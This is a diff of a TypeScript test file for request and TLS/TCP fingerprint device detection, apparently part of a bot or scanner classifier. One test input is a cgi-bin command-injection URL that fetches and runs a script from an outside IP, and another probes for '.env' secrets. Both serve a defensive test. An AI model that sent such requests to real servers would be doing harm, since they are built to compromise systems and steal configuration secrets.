@@ -1,6 +1,6 @@
 import { describe, it } from 'node:test';
 import assert from 'node:assert/strict';
-import { adbSignals, deviceFromJa4t, deviceFromUserAgent, httpSignals } from './signals.ts';
+import { adbSignals, deviceFromJa4, deviceFromJa4t, deviceFromRequest, deviceFromUserAgent, httpSignals } from './signals.ts';
 
 const ua = (v: string) => ({ Host: 'example.com', 'User-Agent': v });
 
@@ -106,11 +106,34 @@ describe('deviceFromUserAgent', () => {
   }
 });
 
+describe('deviceFromRequest', () => {
+  const chrome = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';
+  it('should read the device of a request that behaves like a browser', () => {
+    assert.deepEqual(deviceFromRequest(httpSignals('GET', '/blog/', ua(chrome)), chrome), { os: 'WINDOWS', version: '10' });
+    assert.deepEqual(deviceFromRequest(httpSignals('POST', '/login', ua(chrome)), chrome), { os: 'WINDOWS', version: '10' }, 'one login');
+  });
+  it('should name no device for a browser User-Agent on an exploit, a dropper or from a library', () => {
+    assert.equal(deviceFromRequest(httpSignals('GET', '/.env', ua(chrome)), chrome), undefined);
+    assert.equal(deviceFromRequest(httpSignals('GET', '/cgi-bin/x?;wget+http://198.51.100.7/a;sh+a', ua(chrome)), chrome), undefined);
+    const mixed = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) zgrab/0.x';
+    assert.equal(deviceFromRequest(httpSignals('GET', '/', ua(mixed)), mixed), undefined);
+  });
+});
+
 describe('deviceFromJa4t', () => {
   it('should map unambiguous TCP stacks and leave the rest alone', () => {
     assert.equal(deviceFromJa4t('64240_2-1-3-1-1-4_1460_8')?.os, 'WINDOWS');
     assert.equal(deviceFromJa4t('65535_2-4-8-1-3_1400_9')?.os, 'ANDROID');
     assert.equal(deviceFromJa4t('64240_2-4-8-1-3_1460_7')?.os, 'LINUX');
     assert.equal(deviceFromJa4t('65535_2-1-3-1-1-8-4-0-0_1460_6'), undefined);
+  });
+});
+
+describe('deviceFromJa4', () => {
+  it("should map Windows' own TLS stack and leave cross-platform clients alone", () => {
+    assert.deepEqual(deviceFromJa4('t12d190700_d83cc789557e_16bbda4055b2'), { os: 'WINDOWS', version: '' });
+    assert.deepEqual(deviceFromJa4('t12i210700_76e208dd3e22_16bbda4055b2'), { os: 'WINDOWS', version: '' });
+    assert.equal(deviceFromJa4('t13d1516h2_8daaf6152771_02713d6af862'), undefined, 'Chromium, on every OS');
+    assert.equal(deviceFromJa4('t13d190900_9dc949149365_97f8aa674fd9'), undefined, 'Go');
   });
 });
